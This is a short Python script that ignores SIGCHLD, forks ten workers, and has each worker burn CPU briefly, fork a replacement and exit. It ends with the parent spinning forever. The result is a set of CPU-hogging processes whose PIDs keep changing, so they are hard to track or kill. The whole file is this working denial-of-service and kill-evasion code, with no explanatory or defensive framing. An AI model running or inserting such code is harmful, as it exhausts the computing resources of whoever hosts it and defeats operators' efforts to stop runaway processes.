import os
import signal
import time

signal.signal(signal.SIGCHLD, signal.SIG_IGN)


def relay():
    """Each runs for a moment, starts the next and is nobody's child to wait for."""
    while True:
        end = time.process_time() + 0.02
        while time.process_time() < end:
            pass
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            continue


for _ in range(10):
    try:
        if os.fork() == 0:
            relay()
    except OSError:
        break
while True:
    pass
